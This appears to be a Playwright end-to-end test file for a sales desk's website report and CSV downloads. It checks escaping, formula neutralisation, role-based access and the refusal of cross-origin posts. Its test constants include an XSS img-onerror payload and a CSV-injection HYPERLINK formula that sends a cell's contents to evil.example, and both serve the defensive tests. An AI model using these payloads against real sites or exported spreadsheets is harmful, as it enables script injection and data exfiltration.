import { readFileSync } from "node:fs";
import { type Browser, expect, type Page, test } from "@playwright/test";
import { parse } from "csv-parse/sync";
import type { SmtpPeer } from "../support/smtp-peer";
import { addStaff, type DeskSite, newDeskPage, sendQuote, signIn, startDeskSite } from "./desk-support";
import type { SpawnedServer } from "./spawned-server";
import { expectNoAxeViolations, postForm, uniqueClientAddress, type viewports } from "./support";

/*
 * The desk's report and CSV downloads in a real browser (docs/desk.md#report-and-downloads), staff
 * signed in by the links a real SMTP peer receives: one server for the file, its tests in order.
 */
test.describe.configure({ mode: "serial" });

const port = Number(process.env.E2E_PORT ?? 3100) + 480;
const XSS = "<img src=x onerror=alert(1)>";
const CHROME =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';
let site: DeskSite;
let peer: SmtpPeer;
let server: SpawnedServer;
let databaseUrl: string;
let reference = "";

const newPage = (browser: Browser, size: keyof typeof viewports) =>
  newDeskPage(browser, size, { acceptDownloads: true });

const noWiderThan = async (page: Page, width: number) =>
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);

test.beforeAll(async () => {
  test.setTimeout(120_000);
  site = await startDeskSite(port, "desk-report-e2e-", { ANALYTICS_FLUSH_SECONDS: "1" });
  ({ peer, server, databaseUrl } = site);
  await addStaff(databaseUrl, [
    ["owner@example.test", "owner"],
    ["manager@example.test", "manager"],
    ["dallas.rep@example.test", "rep", "dallas"],
  ]);
});

test.afterAll(async () => {
  await site?.stop();
});

test("the owner reads the report with its charts and speed to lead at 1280 px; what visitors typed is text, in the page and in the CSV", async ({
  browser,
}) => {
  test.setTimeout(180_000);
  reference = await sendQuote(server.origin, "75201");
  const contact = await postForm(`${server.origin}/contact`, {
    name: XSS,
    email: "visitor@example.com",
    message: FORMULA,
  });
  expect(contact.status).toBe(200);
  // A visit from a campaign link whose source a visitor wrote: the report lists it as typed.
  const visit = await fetch(
    `${server.origin}/?utm_source=${encodeURIComponent(XSS)}&utm_medium=email&utm_campaign=fall`,
    {
      headers: { "user-agent": CHROME, "x-forwarded-for": uniqueClientAddress() },
    },
  );
  expect(visit.status).toBe(200);
  const page = await newPage(browser, "desktop");

  await signIn(page, server.origin, peer, "owner@example.test");
  await page.getByRole("navigation", { name: "Desk" }).getByRole("link", { name: "Report" }).click();
  await expect(page.getByRole("heading", { level: 1, name: /^Website report, / })).toBeVisible();
  // Counts are written every second: the search arrives in the report within a few reloads.
  await expect
    .poll(
      async () => {
        await page.reload();
        return page.locator("#campaigns").textContent();
      },
      { timeout: 20_000 },
    )
    .toContain(XSS);
  await expect(page.locator("#campaigns img")).toHaveCount(0);

  // The period as the form asks for it, and the report's sections and charts for it.
  await page.getByLabel("First day").fill("2026-01-01");
  await page.getByLabel("Last day").fill("2026-12-31");
  await page.getByRole("button", { name: "Show" }).click();
  await expect(page).toHaveURL(/\/desk\/report\?from=2026-01-01&to=2026-12-31$/);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(
    "Website report, 2026-01-01 to 2026-12-31",
  );
  await page.getByRole("link", { name: "Last 30 days" }).click();
  await expect(page.getByRole("heading", { name: "Speed to lead per branch" })).toBeVisible();
  const branches = page.locator("#speed-branches");
  await expect(branches.getByRole("row").filter({ hasText: "All leads" })).toContainText("n/a");
  await expect(page.getByRole("img", { name: "Visits and unique visitors per day" })).toBeVisible();
  await expect(page.locator("#summary")).toContainText("Quote requests");
  await expectNoAxeViolations(page);

  // The contact messages' CSV: the name as typed, the formula made text.
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: /^Contact messages, / }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(
    /^ridgeline-leads-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv$/,
  );
  const csv = readFileSync((await download.path()) ?? "", "utf8");
  const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
  expect(rows.map((row) => [row.name, row.message])).toEqual([[XSS, `'${FORMULA}`]]);
  const quotesHref = await page.getByRole("link", { name: /^Quote requests, / }).getAttribute("href");
  const quotes = await page.request.get(`${server.origin}${quotesHref}`);
  expect(quotes.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  expect(await quotes.text()).toContain(reference);
  // HEAD gets the download's headers and no rows.
  const head = await page.request.head(`${server.origin}${quotesHref}`);
  expect(head.status()).toBe(200);
  expect(head.headers()["content-disposition"]).toBe(quotes.headers()["content-disposition"]);
  expect((await head.body()).length).toBe(0);
  for (const cell of (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat())
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  await page.context().close();
});

test("a manager picks a period and reads the report at 375 px by keyboard; nothing is wider than the phone", async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const page = await newPage(browser, "phone");
  await signIn(page, server.origin, peer, "manager@example.test");
  await page.getByRole("navigation", { name: "Desk" }).getByRole("link", { name: "Report" }).focus();
  await page.keyboard.press("Enter");
  await expect(page.getByRole("heading", { level: 1, name: /^Website report, / })).toBeVisible();
  await page.getByRole("link", { name: "Last 7 days" }).focus();
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/from=\d{4}-\d{2}-\d{2}&to=\d{4}-\d{2}-\d{2}$/);
  // A wide table scrolls in its own box, which the keyboard reaches.
  await page.locator("#speed-branches .overflow-x-auto").focus();
  await expect(page.locator("#speed-branches .overflow-x-auto")).toBeFocused();
  await noWiderThan(page, 375);
  await expectNoAxeViolations(page);

  // A period the desk cannot read is a 400 with the form and a message, not a report.
  const bad = await page.goto(`${server.origin}/desk/report?from=2026-13-01&to=${encodeURIComponent(XSS)}`);
  expect(bad?.status()).toBe(400);
  await expect(page.getByRole("alert")).toHaveText("Enter dates as YYYY-MM-DD.");
  const long = await page.goto(`${server.origin}/desk/report?from=2020-01-01&to=2026-01-01`);
  expect(long?.status()).toBe(400);
  await expect(page.getByRole("alert")).toContainText("at most 367 days");
  await noWiderThan(page, 375);
  await expectNoAxeViolations(page);
  await page.context().close();
});

test("a rep has no link to the report and gets the 404 page for it and for every download", async ({
  browser,
}) => {
  const page = await newPage(browser, "phone");
  await signIn(page, server.origin, peer, "dallas.rep@example.test");
  await expect(
    page.getByRole("navigation", { name: "Desk" }).getByRole("link", { name: "Report" }),
  ).toHaveCount(0);
  for (const address of ["/desk/report", "/desk/report?from=2026-01-01&to=2026-01-31"]) {
    expect((await page.goto(`${server.origin}${address}`))?.status(), address).toBe(404);
    await expect(page.getByRole("heading", { name: "Not found" })).toBeVisible();
  }
  for (const dataset of ["leads", "quotes", "subscribers"]) {
    const response = await page.request.get(`${server.origin}/desk/export/${dataset}`);
    expect(response.status(), dataset).toBe(404);
    expect(response.headers()["content-type"]).toContain("text/html");
    const html = await response.text();
    expect(html).toContain("Not found");
    expect(html).not.toContain("visitor@example.com");
  }
  await page.context().close();
});

test("without a session the report and the downloads answer the sign-in page and no data; a cross-origin post is refused", async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const page = await newPage(browser, "phone");
  for (const address of [
    "/desk/report",
    "/desk/report?from=2026-01-01&to=2026-12-31",
    "/desk/export/leads",
    "/desk/export/quotes?from=2026-01-01&to=2026-12-31",
    "/desk/export/subscribers",
    "/desk/export/nothing",
  ]) {
    const response = await page.goto(`${server.origin}${address}`);
    expect(response?.status(), address).toBe(401);
    expect(response?.headers()["content-type"]).toContain("text/html");
    await expect(page.getByRole("heading", { name: "Sign in to the sales desk" })).toBeVisible();
    const html = await page.content();
    expect(html).not.toContain(reference);
    expect(html).not.toContain("visitor@example.com");
  }
  await expectNoAxeViolations(page);
  for (const address of ["/desk/report", "/desk/export/leads"]) {
    const response = await fetch(`${server.origin}${address}`, {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded", origin: "http://evil.example" },
      body: "from=2026-01-01",
    });
    expect(response.status, address).toBe(403);
  }
  await page.context().close();
});
